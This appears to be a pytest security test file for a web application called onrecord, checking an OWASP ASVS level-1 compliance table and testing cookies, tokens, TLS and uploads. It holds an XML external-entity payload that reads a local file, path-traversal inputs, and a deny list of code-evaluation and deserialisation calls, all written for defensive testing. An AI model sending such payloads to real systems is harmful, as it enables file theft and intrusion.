"""The table of ASVS points is whole and names tests that exist; and those points that no other test is about."""

from __future__ import annotations

import ast
import re
import ssl
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.unit.web.test_web_routes import ROUTES
from tests.web_server import CERTIFICATE

pytest.importorskip("argon2", reason="the extra [web] is not installed: pip install 'onrecord[web]'")
pytest.importorskip("zxcvbn", reason="the extra [web] is not installed: pip install 'onrecord[web]'")

import uvicorn
from starlette.testclient import TestClient
from tests.unit.web.test_web_access import BASE, DOOR, NOWHERE, PASSWORDS, log_in, send, token_of

from onrecord import open_desk
from onrecord.desk.accounts import ROLES, Accounts
from onrecord.desk.reading import Library
from onrecord.web import app as application
from onrecord.web.access import SESSION_COOKIE, VISIT_COOKIE
from onrecord.web.app import make_app

ROOT = Path(__file__).parents[3]
WEB = Path(application.__file__).parent
TABLE = (ROOT / "docs" / "asvs.md").read_text(encoding="utf-8")
ROWS = [row for row in TABLE.splitlines() if re.match(r"\| \d", row)]

#: The points of level 1 of ASVS 4.0.3: by section the numbers of its points.
LEVEL_1 = {
    "2.1": range(1, 13), "2.2": (1, 2, 3), "2.3": (1,), "2.5": range(1, 7), "2.7": range(1, 5), "2.8": (1,),
    "3.1": (1,), "3.2": (1, 2, 3), "3.3": (1, 2), "3.4": range(1, 6), "3.7": (1,),
    "4.1": (1, 2, 3, 5), "4.2": (1, 2), "4.3": (1, 2),
    "5.1": range(1, 6), "5.2": range(1, 9), "5.3": range(1, 11), "5.5": range(1, 5), "6.2": (1,),
    "7.1": (1, 2), "7.4": (1,), "8.2": (1, 2, 3), "8.3": range(1, 5), "9.1": (1, 2, 3), "10.3": (1, 2, 3), "11.1": range(1, 6),
    "12.1": (1,), "12.3": range(1, 6), "12.4": (1, 2), "12.5": (1, 2), "12.6": (1,),
    "13.1": (1, 3), "13.2": (1, 2, 3), "13.3": (1,), "14.2": (1, 2, 3), "14.3": (2, 3), "14.4": range(1, 8), "14.5": (1, 2, 3),
}  # fmt: skip


def points(cell: str) -> Iterator[str]:
    for part in cell.split(","):
        first, _, last = part.strip().partition(" – ")
        section, _, number = first.rpartition(".")
        for each in range(int(number), int(last.rpartition(".")[2] or number) + 1):
            yield f"{section}.{each}"


def test_every_point_is_in_the_table_once() -> None:
    named = [point for row in ROWS for point in points(row.split("|")[1])]
    assert sorted(named) == sorted(f"{section}.{each}" for section, numbers in LEVEL_1.items() for each in numbers)


def test_every_point_has_a_test_that_exists_or_a_reason() -> None:
    files = dict(re.findall(r"^\| (\w+) \| `(tests/[\w/.]+)` \|$", TABLE, re.M))
    written = {
        name: {
            each.name
            for each in ast.walk(ast.parse((ROOT / path).read_text(encoding="utf-8")))
            if isinstance(each, ast.FunctionDef)
        }
        for name, path in files.items()
    }
    for row in ROWS:
        told = row.split("|")[3]
        named = re.findall(r"`(\w+)::(\w+)`", told)
        assert named or "reason: " in told or "**open**" in told.lower(), row
        for name, test in named:
            assert test in written[name], row
    used = {name for row in ROWS for name, _ in re.findall(r"`(\w+)::(\w+)`", row)}
    assert used == set(files)


# Points that no other test is about


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("asvs")
    with open_desk(folder):
        pass
    for role in ROLES:
        Accounts(folder).add(role.title(), role, PASSWORDS[role])
    return folder


@pytest.fixture
def owner(folder: Path) -> TestClient:
    client = TestClient(
        make_app(Library(folder), DOOR), base_url=BASE, follow_redirects=False, headers={"Origin": BASE}
    )
    assert log_in(client, "owner").status_code == 303
    return client


def test_fields_of_passwords_are_open_to_managers_and_pasting() -> None:
    found = 0
    for path in (WEB / "templates").glob("*.html"):
        for field in re.findall(r"<input[^>]*type=\"password\"[^>]*>", path.read_text(encoding="utf-8")):
            found += 1
            assert re.search(r'autocomplete="(current|new)-password"', field), path
            assert 'maxlength="128"' in field
    assert found >= 4
    for path in (WEB / "static").glob("*.js"):
        if path.name != "htmx.min.js":
            assert "paste" not in path.read_text(encoding="utf-8") or path.name == "adding.js"


def test_no_secret_is_taken_from_an_address(owner: TestClient, folder: Path) -> None:
    token = Accounts(folder).make_token("Owner", "x", "write", 1)
    cookie = owner.cookies[SESSION_COOKIE]
    owner.cookies.clear()
    for name in ("access_token", "token", "api_key", "authorization", "Authorization"):
        assert owner.get("/api/today", params={name: token}).status_code == 401
        assert owner.get("/api/today", params={name: f"Bearer {token}"}).status_code == 401
    assert owner.get("/account", params={SESSION_COOKIE: cookie}).status_code == 303
    assert owner.get(f"/account;{SESSION_COOKIE}={cookie}").status_code == 303


def test_secrets_have_many_bits(folder: Path, owner: TestClient) -> None:
    accounts = Accounts(folder)
    secrets = {accounts.make_token("Owner", "x", "read", 1).removeprefix("onr_"), accounts.invite("Bo", "reader")}
    secrets.add(owner.cookies[SESSION_COOKIE].partition(".")[0])
    for secret in secrets:
        assert len(secret) * 6 >= 128
    assert len({accounts.invite("Bo", "reader") for _ in range(20)}) == 20


def test_going_back_after_logging_out_shows_nothing(owner: TestClient) -> None:
    assert owner.get("/accounts").headers["cache-control"] == "no-store"
    answer = send(owner, "/logout", "/account")
    assert '"cache"' in answer.headers["clear-site-data"]
    assert f'{SESSION_COOKIE}=""' in answer.headers["set-cookie"]
    assert owner.get("/accounts").status_code == 303


def test_no_cookie_goes_without_https_or_to_scripts(owner: TestClient) -> None:
    answers = [
        owner.get("/?since="),
        owner.get("/?day=2031-05-02"),
        owner.get("/?since=nothing+of+this+name"),
        send(owner, "/logout", "/account"),
    ]
    answers.append(owner.get("/login"))
    cookies = [each for answer in answers for each in answer.headers.get_list("set-cookie")]
    assert {each.partition("=")[0] for each in cookies} == {"onrecord_since", SESSION_COOKIE, VISIT_COOKIE}
    for cookie in cookies:
        assert {"secure", "httponly", "samesite=strict"} <= {part.strip().lower() for part in cookie.split(";")}, cookie


def test_without_its_accounts_a_desk_opens_to_nobody(tmp_path: Path) -> None:
    with open_desk(tmp_path):
        pass
    accounts = Accounts(tmp_path)
    accounts.add("Owner", "owner", PASSWORDS["owner"])
    token = accounts.make_token("Owner", "x", "write", 1)
    client = TestClient(
        make_app(Library(tmp_path), DOOR), base_url=BASE, follow_redirects=False, raise_server_exceptions=False
    )
    client.headers["Origin"] = BASE
    log_in(client, "owner")
    bearer = {"Authorization": f"Bearer {token}"}
    assert client.get("/accounts").status_code == client.get("/api/today", headers=bearer).status_code == 200
    (tmp_path / "accounts.sqlite").write_bytes(b"damaged " * 1000)
    for answer in (
        client.get("/accounts"),
        client.get("/api/today"),
        client.get("/api/today", headers=bearer),
        client.get("/"),
    ):
        assert answer.status_code >= 500
        assert "damaged" in answer.text
        assert "Who may</h2>" not in answer.text
    (tmp_path / "accounts.sqlite").unlink()
    assert client.get("/accounts").status_code == 303
    assert client.get("/api/today", headers=bearer).status_code == 401


def test_only_files_of_the_package_are_served(owner: TestClient, folder: Path) -> None:
    (folder / "podcast").mkdir(exist_ok=True)
    (folder / "podcast" / "notes.txt").write_text("kept")
    names = (
        "",
        ".git/config",
        ".DS_Store",
        "app.py",
        "../app.py",
        "%2e%2e/app.py",
        "..%2fapp.py",
        "onrecord.css.bak",
        "onrecord.css~",
    )
    for place in ("static", "podcast", "templates", "desk"):
        for name in (*names, "notes.txt", "accounts.sqlite", "../accounts.sqlite", "desk.sqlite"):
            answer = owner.get(f"/{place}/{name}")
            assert answer.status_code in (400, 404, 405), (place, name)
    assert owner.get("/static/onrecord.css").status_code == 200


#: What runs text as a program, or makes objects of bytes.
_EVALUATES = {"eval", "exec", "compile", "__import__", "system", "popen", "spawn"}
_UNPACKS = {"pickle", "marshal", "shelve", "dill", "yaml", "joblib"}


def test_nothing_is_evaluated() -> None:
    files = list((ROOT / "src").rglob("*.py"))
    assert len(files) > 200
    for path in files:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                called = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
                of_patterns = isinstance(node.func, ast.Attribute) and called == "compile"
                assert called not in _EVALUATES or of_patterns, path
                assert not any(each.arg == "shell" for each in node.keywords), path
            elif isinstance(node, ast.Import | ast.ImportFrom):
                names = {alias.name for alias in node.names} if isinstance(node, ast.Import) else {node.module or ""}
                assert not {name.partition(".")[0] for name in names} & _UNPACKS, path
    for path in (WEB / "static").glob("*.js"):
        text = path.read_text(encoding="utf-8")
        assert path.name == "htmx.min.js" or not re.search(r"\beval\b|new Function|document\.write", text), path


_ENTITY = b"""<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY x SYSTEM "file://%s"><!ENTITY y "zzzz"><!ENTITY z "&y;&y;&y;">]>
<opml version="2.0"><head><title>&x;&z;</title></head><body><outline text="&x;" xmlUrl="http://10.0.0.7/&x;"/></body></opml>"""


def test_no_entity_of_an_upload_is_followed(owner: TestClient, folder: Path, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("the-secret-of-the-machine")
    for name in ("feeds.opml", "page.html", "feed.xml", "page.mhtml"):
        body = _ENTITY % str(tmp_path / "secret").encode()
        owner.headers["X-Form-Token"] = token_of(owner, "/account")
        answer = owner.post("/api/loads", files=[("files", (name, body))])
        assert answer.status_code == 202
        owner.get(f"/add/loads/{answer.json()['id']}/events")
        told = owner.get(f"/api/loads/{answer.json()['id']}").text
        assert '"state":"done"' in told
        assert "the-secret" not in told
    with open_desk(folder) as desk:
        assert not any("the-secret" in str(row) for row in desk.show("articles"))


def test_only_modern_tls_is_spoken() -> None:
    config = uvicorn.Config(application.make_app, ssl_certfile=CERTIFICATE, log_level="critical", factory=True)
    config.lifespan = "off"
    config.ssl = uvicorn.config.create_ssl_context(
        CERTIFICATE, None, None, config.ssl_version, config.ssl_cert_reqs, None, config.ssl_ciphers
    )
    assert config.ssl.minimum_version >= ssl.TLSVersion.TLSv1_2
    for suite in config.ssl.get_ciphers():
        assert suite["strength_bits"] >= 128
        assert not re.search(r"RC4|DES|MD5|NULL|EXP|anon|-SHA$", suite["name"])
        assert suite["kea"] in ("kx-ecdhe", "kx-dhe", "kx-any")  # forward secrecy


def test_what_is_installed_is_pinned_by_digests() -> None:
    for path in (ROOT / "requirements").glob("*.txt"):
        lines = path.read_text(encoding="utf-8").replace("\\\n", " ").splitlines()
        wanted = [line for line in lines if line.strip() and not line.lstrip().startswith(("#", "--"))]
        assert wanted
        for line in wanted:
            assert re.match(r"[\w.\[\],-]+==\S+ .*--hash=sha256:[0-9a-f]{64}", line), (path.name, line[:80])


def test_every_answer_says_what_it_is(owner: TestClient) -> None:
    seen = set()
    for route, (method, path, _) in ROUTES.items():
        if method == "GET" and not route.endswith("/events"):
            answer = owner.get(path.format(**NOWHERE))
            kind = answer.headers.get("content-type", "")
            assert kind or not answer.content, path
            if kind.startswith("text/") or "xml" in kind:
                assert kind.endswith("charset=utf-8"), (path, kind)
            seen.add(kind)
    assert {"text/html; charset=utf-8", "application/json"} <= seen


def test_json_is_no_page(owner: TestClient) -> None:
    for path in (
        "/api/today",
        "/api/openapi.json",
        "/api/stories/none",
        "/api/search?q=<script>.html",
        "/api/nothing.bat",
    ):
        answer = owner.get(path)
        assert answer.headers["content-type"] == "application/json"
        assert answer.headers["content-disposition"] == 'attachment; filename="api.json"'
    for path in ("/brief.md", "/brief.json", "/calendar.ics"):
        kind = owner.get(path).headers["content-type"]
        assert not kind.startswith("text/html")
